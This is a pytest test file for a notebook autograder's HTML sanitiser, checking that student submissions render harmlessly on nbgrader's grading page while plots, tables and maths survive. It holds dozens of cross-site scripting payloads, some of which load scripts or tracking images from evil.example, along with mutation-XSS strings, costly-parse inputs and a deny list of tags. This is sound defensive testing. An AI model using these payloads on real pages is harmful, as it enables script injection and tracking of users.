"""What a submission puts onto a page: attacks wherever nbconvert shows its content, and what must stay as it was."""

from __future__ import annotations

import base64
import re
import time
from collections.abc import Mapping
from html import escape, unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import nbgrader
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from autograder.markup import PREFIX
from autograder.pages import configure_pages
from autograder.sanitise import as_text, clean_attachments, clean_html, clean_notebook, clean_output
from tests import make
from tests.test_reader import json_values

FORMGRADER = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()

# --- what is dangerous on a page


def words(text: str) -> frozenset[str]:
    return frozenset(text.split())


FORBIDDEN = words(
    """applet audio base body button embed fieldset form frame frameset head html iframe input isindex keygen link math meta
    noembed noframes noscript object option param plaintext script select source style svg template textarea title track video
    xmp"""
)
URLS = words("action archive background cite classid codebase data formaction href longdesc ping poster src srcset")
DATA_IMAGE = re.compile(r"data:image/(png|jpeg|svg\+xml);base64,[A-Za-z0-9+/=]+")
OWN_FILE = re.compile(r"\w[\w./%-]*\.(png|csv|py|txt)")
LINK = re.compile(r"#.*|https?://[\w.-]+([/?].*)?|mailto:.*")


class Dangers(HTMLParser):
    """Collects what could run, load or mislead."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if self.is_dangerous(tag, name, value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")

    def is_dangerous(self, tag: str, name: str, value: str) -> bool:
        if name in URLS:
            harmless = OWN_FILE.fullmatch(value) or (LINK if (tag, name) == ("a", "href") else DATA_IMAGE).fullmatch(value)
            return harmless is None or (".." in value and not value.startswith("http"))
        if name == "style":
            return bool(re.search(r"url|expression|@|\\|position|behavior|-moz|image-set|-\d", value, re.IGNORECASE))
        if name in ("id", "name"):
            return not value.startswith((PREFIX, "cell-id="))
        return name.startswith(("on", "data-", "xmlns", "xlink", "form", "srcdoc", "http-equiv"))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Dangers:
    parser = Dangers()
    parser.feed(html)
    parser.close()
    return parser


class Pages:
    """The page on which a person grades, without a server."""

    def __init__(self) -> None:
        c = Config()
        c.HTMLExporter.template_name = "formgrade"
        c.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
        configure_pages(c)
        configure_pages(c)
        self.exporter = HTMLExporter(config=c)

    def whole(self, nb: nbformat.NotebookNode, **names: str) -> str:
        resources = {"assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0, "total": 1, "base_url": ""}
        html, _ = self.exporter.from_notebook_node(nb, resources={**resources, "notebook_path": "n", "student": "ana", **names})
        return str(html)

    def body(self, *cells: nbformat.NotebookNode, **metadata: Any) -> str:
        """What the page shows of a notebook; the page's own scripts and forms are elsewhere."""
        nb = make.notebook()
        nb.cells = list(cells)  # not checked, as what a file holds is not
        nb.metadata.update(metadata)
        return self.whole(nb).split('<div class="container" id="notebook-container">')[2].split('<div class="help">')[0]


@pytest.fixture(scope="module")
def pages() -> Pages:
    return Pages()


# --- attacks

HTML = {
    "script": "<script>alert(1)</script>",
    "script_in_pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script_uppercase_with_slash": "<SCRIPT/x>alert(1)</SCRIPT >",
    "script_external": '<script src="https://evil.example/x.js"></script>',
    "script_unclosed": "<script>alert(1)",
    "image_onerror": "<img src=x onerror=alert(1)>",
    "image_onerror_odd_spaces": "<img\x0csrc=x\x0conerror\n=\nalert(1)>",
    "image_slash_separated": "<img/src=x/onerror=alert(1)>",
    "image_unclosed": "<img src=x onerror=alert(1)//",
    "body_onload": "<body onload=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "link_javascript": '<a href="javascript:alert(1)">x</a>',
    "link_javascript_case_and_space": '<a href=" \x01JaVa\tScRi\npT:alert(1)">x</a>',
    "link_javascript_entities": '<a href="&#x6A;&#97;vascript&colon;alert(1)">x</a>',
    "link_vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link_data_html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link_to_own_html": '<a href="evil.html">x</a><a href="./evil.svg">x</a><a href="http:evil.html">x</a>',
    "link_to_the_server": '<a href="/logout">x</a><a href="../../../api/kernels">x</a><a href="//evil.example">x</a>',
    "link_backslash": '<a href="\\\\evil.example\\x.png">x</a><a href="https:\\\\evil.example">x</a>',
    "link_after_stripping_files": '<a href="files/javascript:alert(1)">x</a><a href="/files//evil.example/x.png">x</a>',
    "link_ping": '<a href="#x" ping="https://evil.example">x</a>',
    "image_external": '<img src="https://evil.example/seen.png"><img src="//evil.example/x.png">',
    "image_srcset": '<img srcset="https://evil.example/x.png 1x"><picture><source srcset="//evil.example/x"></picture>',
    "image_that_logs_out": '<img src="/logout"><img src="..%2f..%2flogout.png"><img src="%2e%2e/x.png"><img src="x.png?a">',
    "image_data_html": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "image_break_out": "<img src='data:image/png;base64,\" onerror=\"alert(1)'>",
    "svg_onload": "<svg onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_foreign_object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg_use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
    "math_link": '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "style_element": "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "style_url": '<p style="background:url(https://evil.example/x)">x</p>',
    "style_url_escaped": "<p style=\"background:u\\72l(//evil.example); background-image:image-set('//evil.example' 1x)\">x</p>",
    "style_expression": '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">x</p>',
    "style_overlay": '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%">x</div>',
    "style_negative_margin": '<div style="margin:-500px 0 0;margin-top: -1e3px;margin:0-9px;margin-left:calc(0px - 9px)">x</div>',
    "style_rule_for_an_id": "<style>#x{position:fixed;background:url(//evil.example);color:red}</style><p id=x>x</p>",
    "style_break_out": '<style>#x{color:red" onclick="alert(1)}</style><p id=x>x</p>',
    "meta_refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link_element": '<link rel=stylesheet href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name=p><button formaction=javascript:alert(1)>x</button></form>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object_and_embed": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
    "video_and_audio": '<video poster="//evil.example" src="//evil.example" onerror=x></video><audio src="//evil.example">',
    "mutation_math_style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "mutation_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation_template": "<template><img src=x onerror=alert(1)></template>",
    "mutation_title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "mutation_textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "mutation_form_in_table": "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "mutation_select": "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing_instruction": "<?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<img src=x onerror=alert(1)>]]>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "name_of_a_score_field": '<div id="t1">x</div><a name="t1">x</a>',
    "bootstrap_gadget": '<a data-toggle="collapse" data-target="<img src=x onerror=alert(1)>" data-link="x" href="#">x</a>',
    "control_characters": "<img src=x \x00onerror=alert(1)><scr\x00ipt>alert(1)</script>",
}
MARKDOWN = {
    "link": "[x](javascript:alert(1)) [y](<java script:alert(1)>) [z][1]\n\n[1]: JAVASCRIPT:alert(1)",
    "autolink": "<javascript:alert(1)> <data:text/html,<script>alert(1)</script>>",
    "image": '![x](javascript:alert(1)) ![y](https://evil.example/seen.png) ![z](x.png"onerror="alert(1))',
    "title": '[x](#a "\\" onmouseover=alert(1) x=\\"")',
    "mermaid": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "code_language": '```"><script>alert(1)</script>\nx\n```',
    "heading": "# <img src=x onerror=alert(1)> <b id=t1>x</b>",
    "maths": "$x<img src=x onerror=alert(1)>$ $$</p><script>alert(1)</script>$$ \\begin{a}<svg onload=alert(1)>\\end{a}",
    "attachment_missing": "![x](attachment:nope.png)",
}
OUTPUTS: dict[str, tuple[Mapping[str, Any], Mapping[str, Any]]] = {
    "latex": ({"text/latex": "$x$</div><script>alert(1)</script>"}, {}),
    "javascript": ({"application/javascript": "alert(1)"}, {}),
    "javascript_with_plain": ({"application/javascript": "alert(1)", "text/plain": "<b>object</b>"}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}}, {}),
    "mermaid": ({"text/vnd.mermaid": "</pre><script>alert(1)</script>"}, {}),
    "pdf": ({"application/pdf": "</div><script>alert(1)</script>"}, {}),
    "unknown_type": ({'x/"><script>alert(1)</script>': "x"}, {}),
    "svg": ({"image/svg+xml": '"><script>alert(1)</script><svg onload="alert(1)">'}, {}),
    "png_break_out": ({"image/png": '" onerror="alert(1)', "text/plain": "figure"}, {}),
    "jpeg_break_out": ({"image/jpeg": "x'><script>alert(1)</script>"}, {}),
    "png_width": ({"image/png": PNG}, {"image/png": {"width": "1 onerror=alert(1)", "height": "1/onload=alert(1)"}}),
    "png_width_for_all": ({"image/png": PNG}, {"width": "1 onerror=alert(1)"}),
    "png_alt": ({"image/png": PNG}, {"image/png": {"alt": '" onerror="alert(1)'}}),
    "png_filenames": ({"image/png": PNG}, {"filenames": {"image/png": "https://evil.example/seen.png"}}),
    "isolated": ({"text/html": "<b>x</b><script>alert(1)</script>"}, {"text/html": {"isolated": True}}),
    "markdown": ({"text/markdown": "<script>alert(1)</script> [x](javascript:alert(1))"}, {}),
    "plain": ({"text/plain": "</pre><script>alert(1)</script>"}, {}),
    "html_as_lines": ({"text/html": ["<b>x</b>", "<script>", "alert(1)</script>"]}, {}),
    "html_not_text": ({"text/html": {"a": 1}, "text/plain": 5}, {"text/html": 5}),
}


def odd_cell(kind: str = "markdown", **fields: Any) -> nbformat.NotebookNode:
    cell = make.code("x = 1") if kind == "code" else make.text("x")
    odd: nbformat.NotebookNode = nbformat.from_dict({**cell, "cell_type": kind, **fields})
    return odd


def displayed(data: Mapping[str, Any], metadata: Mapping[str, Any]) -> nbformat.NotebookNode:
    output = {"output_type": "display_data", "data": dict(data), "metadata": dict(metadata)}
    return odd_cell("code", outputs=[output])


def printed(kind: str, **fields: Any) -> nbformat.NotebookNode:
    return odd_cell("code", outputs=[{"output_type": kind, **fields}])


ODD_CELLS = {
    "tags": odd_cell("code", metadata={"tags": ['x"><script>alert(1)</script>', "x navbar-fixed-top", {"a": 1}]}),
    "cell_id": odd_cell(id='x" onclick="alert(1)'),
    "grade_id": odd_cell("code", metadata={"nbgrader": {"grade_id": '"><script>alert(1)</script>', "solution": True}}),
    "comment": odd_cell(metadata={"nbgrader": {"grade_id": "t", "solution": True, "comment": "<script>alert(1)</script>"}}),
    "nbgrader_not_a_dict": odd_cell("code", metadata={"nbgrader": "x", "transient": "x", "alt": ["x"]}),
    "execution_count": odd_cell("code", execution_count="<script>alert(1)</script>"),
    "magics_language": odd_cell("code", metadata={"magics_language": '"><script>alert(1)</script>'}),
    "attachment_bytes": odd_cell(source="![x](attachment:a)", attachments={"a": {"image/png": '" onerror="alert(1)'}}),
    "attachment_type": odd_cell(source="![x](attachment:a)", attachments={"a": {"text/html": "PHNjcmlwdD4="}}),
    "attachment_key": odd_cell(
        source='![x](attachment:"onerror=alert(1))', attachments={'"onerror=alert(1)': {"image/png": PNG}}
    ),
    "attachments_malformed": odd_cell(source="![x](attachment:a)", attachments={"a": ["image/png"]}),
    "raw": odd_cell("raw", source="<script>alert(1)</script><img src=x onerror=alert(1)>"),
    "raw_html": odd_cell("raw", source="<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"}),
    "raw_mimetype": odd_cell("raw", metadata={"raw_mimetype": 5}),
    "unknown_kind": odd_cell("<script>", type="<script>alert(1)</script>"),
    "stream": printed("stream", name="stdout", text="\x1b[31m</pre><script>alert(1)</script>"),
    "stream_ansi": printed("stream", name="stderr", text="\x1b[38;2;1;1;<script>m&\x1b[lt;b"),
    "error": printed("error", ename="x", evalue="x", traceback=["<script>alert(1)</script>", 5]),
    "output_malformed": odd_cell(
        "code", outputs=[5, {}, {"output_type": "display_data", "svg_filename": "https://evil.example"}]
    ),
    "source": odd_cell("code", source="x = '</pre><script>alert(1)</script>'"),
    "outputs_not_a_list": odd_cell("code", outputs={}),
}


@pytest.mark.parametrize("attack", HTML)
def test_html_is_harmless(attack: str) -> None:
    cleaned = clean_html(HTML[attack])
    assert parse(cleaned).found == []
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("attack", HTML)
def test_html_is_harmless_on_the_page(pages: Pages, attack: str) -> None:
    body = pages.body(make.text(HTML[attack]), displayed({"text/html": HTML[attack]}, {}))
    assert parse(body).found == []


@pytest.mark.parametrize("attack", MARKDOWN)
def test_markdown_is_harmless_on_the_page(pages: Pages, attack: str) -> None:
    assert parse(pages.body(make.text(MARKDOWN[attack]))).found == []


@pytest.mark.parametrize("attack", OUTPUTS)
def test_output_is_harmless_on_the_page(pages: Pages, attack: str) -> None:
    body = parse(pages.body(displayed(*OUTPUTS[attack])))
    assert body.found == []
    assert "".join(body.text).strip() or "img" in body.tags


@pytest.mark.parametrize("attack", ODD_CELLS)
def test_cell_is_harmless_on_the_page(pages: Pages, attack: str) -> None:
    assert [danger for danger in parse(pages.body(ODD_CELLS[attack])).found if not danger.startswith("<textarea")] == []


@pytest.mark.parametrize(
    "metadata",
    [
        {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>alert(1)</script>"}}}},
        {"widgets": {"application/vnd.jupyter.widget-state+json": 5}},
        {"widgets": 5, "title": "</title><script>alert(1)</script>"},
        {"language_info": {"name": '"><script>alert(1)</script>'}, "kernelspec": 5},
    ],
)
@pytest.mark.filterwarnings("ignore:No lexer found:UserWarning")
def test_notebooks_metadata_are_harmless_on_the_page(pages: Pages, metadata: dict[str, Any]) -> None:
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "a slider"}
    body = parse(pages.body(displayed(view, {}), **metadata))
    assert body.found == []
    assert "a slider" in "".join(body.text)


def test_names_of_students_are_escaped(pages: Pages) -> None:
    page = pages.whole(make.notebook(), first_name="<script>alert(1)</script>", last_name="O'Brien & <b>")
    assert "<script>alert(1)" not in page
    assert "O'Brien &amp; &lt;b&gt;" in page


PIECES = words(
    """< > / " ' = ` & ; # <!-- --> <![CDATA[ ]]> &lt; &#x3c; <b> </b> <p> <table> <td> </table> <a href= <img src= <svg> </svg>
    <math> <mi> <style> </style> #x{ } <script> </script> <template> <title> <textarea> <select> <form> <button> <pre> <font
    <details> </ onerror=alert(1) javascript: data: style= id=x class= \\href"""
)
PIECE = st.sampled_from(sorted([*HTML.values(), *PIECES, "\n", "\x00", "\r", " ", "\u2028"]))


@given(html=st.lists(st.one_of(PIECE, st.text(max_size=5)), max_size=12).map("".join))
def test_any_html_is_harmless_and_cleaned_only_once(html: str) -> None:
    cleaned = clean_html(html)
    assert parse(cleaned).found == []
    assert clean_html(cleaned) == cleaned


@given(text=st.text(st.characters(exclude_characters="\x00\r", codec="utf-8")))
def test_text_without_markup_stays_as_it_is(text: str) -> None:
    assert unescape(clean_html(escape(text))) == text
    assert unescape(as_text(text)) == f"<pre>{text}</pre>".replace("<pre>\n", "<pre>\n\n")


@given(value=json_values)
def test_any_value_makes_a_valid_notebook(value: Any) -> None:
    keys = words("output_type data metadata text traceback name execution_count source id attachments tags")
    output = dict.fromkeys(keys, value)
    outputs = [
        value,
        output,
        *({**output, "output_type": kind} for kind in ("stream", "error", "display_data", "execute_result")),
    ]
    outputs.append({"output_type": "display_data", "data": dict.fromkeys(("text/html", "image/png", "text/plain"), value)})
    cells = [value, *({**output, "cell_type": kind, "outputs": outputs} for kind in ("code", "markdown", "raw", "other"))]
    for nb in (value, {"cells": value, "metadata": value}, {"cells": cells}):
        cleaned = clean_notebook(nb)
        nbformat.validate(cleaned)
        assert clean_notebook(cleaned) == cleaned


# --- what stays


def test_ordinary_markdown_looks_as_before(pages: Pages) -> None:
    source = """# A heading with `code` and $a < b$
Text **bold** *italic* ~~gone~~ with [a link](https://example.org/a?b=c#d), [data](data/points.csv), [a section](#A-heading).

$$\\begin{aligned}x &= y \\\\\\\\ z &< 3\\end{aligned}$$

| a | b |
|---|--:|
| 1 | 2 |

1. one
2. two
   - nested

```python
if 1 < 2: print("x & y")
```
<details open><summary>Hint</summary>Text</details>

<div class="alert alert-info">Note <span style="color: red">red</span> <font color="blue">blue</font> <kbd>x</kbd></div>

![a file](images/plot.png) ![attached](attachment:a.png) <img src="images/plot.png" width="200" alt="sized">
"""
    cell = odd_cell(source=source, attachments={"a.png": {"image/png": PNG}})
    plain = Config()
    plain.HTMLExporter.template_name = "formgrade"
    plain.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    cleaned = pages.body(cell)
    pages_before = Pages()
    pages_before.exporter = HTMLExporter(config=plain)
    before = pages_before.body(cell)
    rel = ' rel="noopener noreferrer nofollow"'
    assert _attributes_sorted(cleaned.replace(PREFIX, "").replace(rel, "")) == _attributes_sorted(before)


def _attributes_sorted(html: str) -> list[tuple[str, ...]]:
    parser = Sorted()
    parser.feed(html)
    return parser.events


class Sorted(HTMLParser):
    """What is on a page, without the order of attributes and the spaces between declarations."""

    def __init__(self) -> None:
        super().__init__()
        self.events: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append((tag, *sorted(f"{name}={(value or '').replace(': ', ':').rstrip(';')}" for name, value in attrs)))

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.events.append(("text", data.strip()))


def test_plots_tables_maths_and_verdicts_are_still_shown(pages: Pages) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="3"/></svg>'
    verdict = '<p style="margin:0"><strong style="color:#1a7f37">Passed (2 of 2 points)</strong></p>'
    frame = """<div>
<style scoped>
    .dataframe tbody tr th {
        vertical-align: top;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>a</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>1.5</td>
    </tr>
  </tbody>
</table>
</div>"""
    styler = (
        '<style type="text/css">\n#T_1_row0_col0, #T_1_row1_col0 {\n  background-color: #ffff00;\n}\n</style>\n<table id="T_1">'
        '<tbody><tr><td id="T_1_row0_col0" class="data row0 col0" >1</td><td id="T_1_row0_col1" >2</td></tr></tbody></table>'
    )
    body = pages.body(
        displayed(
            {"image/png": PNG[:5] + "\n" + PNG[5:], "text/plain": "<Figure>"}, {"image/png": {"width": 640, "height": "48px"}}
        ),
        displayed({"image/svg+xml": svg, "text/plain": "<Figure>"}, {}),
        displayed({"text/html": f"before {svg} after"}, {}),
        displayed({"text/html": frame, "text/plain": "   a\n0 1.5"}, {}),
        displayed({"text/html": styler, "text/plain": "<Styler>"}, {}),
        displayed({"text/latex": "$\\frac{a}{b} < c$"}, {}),
        displayed({"text/markdown": "**bold** $a < b$"}, {}),
        displayed({"text/html": verdict, "text/plain": "Passed"}, {}),
    )
    assert f'src="data:image/png;base64,{PNG}"' in body
    assert 'width="640"' in body
    assert 'height="48"' in body
    assert body.count(f'src="data:image/svg+xml;base64,{base64.b64encode(svg.encode()).decode()}"') == 2
    assert '<table border="1" class="dataframe">' in body
    assert '<tr style="text-align:right">' in body
    assert f'<td id="{PREFIX}T_1_row0_col0" style="background-color:#ffff00">1</td>' in body
    assert f'<td id="{PREFIX}T_1_row0_col1">2</td>' in body
    assert "$\\frac{a}{b} &lt; c$" in body
    assert "<strong>bold</strong> $a &lt; b$" in body
    assert verdict in body
    assert parse(body).found == []


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ({"application/javascript": "x"}, "[This output cannot be shown here: application/javascript]"),
        ({"text/html": "<div><script>x</script></div>", "text/plain": "plain"}, "plain"),
        ({"image/png": "%%%", "text/plain": "plain"}, "plain"),
        ({"application/x-own": "x", "text/plain": "plain"}, "plain"),
        ({}, ""),
    ],
)
def test_what_cannot_be_shown_leaves_plain_text_or_a_note(data: dict[str, str], shown: str) -> None:
    output = clean_output({"output_type": "display_data", "data": data, "metadata": {}})
    assert output is not None
    assert output.data == {"text/plain": shown}


def test_attachments_are_images_only() -> None:
    attachments = {"a.png": {"image/png": PNG}, "b": {"text/html": PNG}, "c": {"image/png": "no base64!"}, "d": 5}
    assert clean_attachments(attachments) == {"a.png": {"image/png": PNG}}


def test_missing_attachment_leaves_its_description(pages: Pages) -> None:
    cell = odd_cell(source="before ![a plot](attachment:gone.png) after **bold**")
    body = pages.body(cell)
    assert '<img alt="a plot"/>' in body
    assert "<strong>bold</strong>" in body


def test_maths_makes_no_links() -> None:
    """MathJax's safe mode lets `http:` through, and `http:page.html` is a file beside the page."""
    assert clean_html("\\href{http:evil.html}{x}") == "\\\u2060href{http:evil.html}{x}"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<ul><li>" * 9_000,
        "".join(f"<b x={number}>" for number in range(1_500)) + "<p>x" * 1_500,
        "<svg" * 50_000 + "<style>" * 50_000,
        '<p style="color:' + "-a" * 200_000 + '">',
        "<style>" + "#a," * 50_000 + "#a{" + "color:red;" * 50_000 + "}</style><p id=a>x</p>",
    ],
    ids=["deep", "nested_lists", "reopened", "unclosed", "long_style", "large_rule"],
)
def test_html_made_to_cost_time_is_given_up_soon(html: str) -> None:
    start = time.perf_counter()
    assert parse(clean_html(html)).found == []
    assert time.perf_counter() - start < 30  # about one second; minutes or gigabytes without the limits


@pytest.mark.parametrize("opening", ["\\begin{a}", "a["])
def test_markdown_made_to_cost_time_is_shown_as_text(pages: Pages, opening: str) -> None:
    start = time.perf_counter()
    assert f"<pre>{opening}{opening}" in pages.body(make.text(opening * 20_000))
    assert time.perf_counter() - start < 30  # more than a minute if it were rendered


def test_colours_made_to_cost_time_are_left_out() -> None:
    output = clean_output({"output_type": "stream", "name": "stdout", "text": "\x1b[1mx" * 200_000})
    assert output is not None
    assert output.text == "x" * 200_000


# --- nbgrader's pages


def _rules(css: str) -> list[tuple[str, str]]:
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)
    found = []
    for rule in css.split("}"):
        selectors, _, declarations = rule.rpartition("{")
        found += [(selector.strip(), declarations) for selector in selectors.rpartition("{")[2].split(",")]
    return found


def _kept(names: set[str]) -> set[str]:
    return {name for name in names if f'class="{name}"' in clean_html(f'<p class="{name}">x</p>')}


def test_no_class_that_is_kept_takes_a_box_out_of_its_place() -> None:
    css = "".join(
        (FORMGRADER / "static" / path).read_text()
        for path in ("css/formgrade.css", "node_modules/bootstrap/dist/css/bootstrap.css")
    )
    is_placed = re.compile(r"position\s*:\s*(fixed|absolute|sticky)|z-index\s*:\s*\d{2}")
    placed = {selector for selector, declarations in _rules(css) if is_placed.search(declarations)}
    assert ".navbar-fixed-top" in placed
    for selector in placed:
        classes = set(re.findall(r"\.([\w-]+)", selector))
        assert not classes or classes - _kept(classes) or "[type" in selector, selector


def test_no_class_that_is_kept_is_known_to_the_grading_pages_scripts() -> None:
    scripts = "".join((FORMGRADER / "static" / "js" / name).read_text() for name in ("formgrade.js", "formgrade_models.js"))
    known = set(re.findall(r"""["' ]\.([a-z][a-z_-]+)["']""", scripts))
    assert {"full-credit", "score", "nbgrader_cell", "tabbable"} <= known
    assert _kept(known) == set()
